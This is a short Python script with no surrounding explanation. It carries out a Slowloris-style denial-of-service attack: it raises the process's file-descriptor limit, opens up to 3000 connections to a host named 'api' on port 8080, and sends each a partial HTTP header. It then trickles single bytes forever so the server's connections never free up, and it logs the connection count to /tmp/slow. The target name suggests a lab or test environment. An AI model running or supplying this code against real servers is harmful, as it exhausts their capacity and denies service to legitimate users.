import resource, socket, time
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
links = []
try:
    while len(links) < 3000:
        links.append(socket.create_connection(("api", 8080), 2))
        links[-1].send(b"GET /task HTTP/1.1\r\nHost: a\r\nX: ")
except OSError:
    links.pop().close()
open("/tmp/slow", "w").write(str(len(links)))
while True:
    for link in links:
        try:
            link.send(b"y")
        except OSError:
            pass
    time.sleep(0.1)
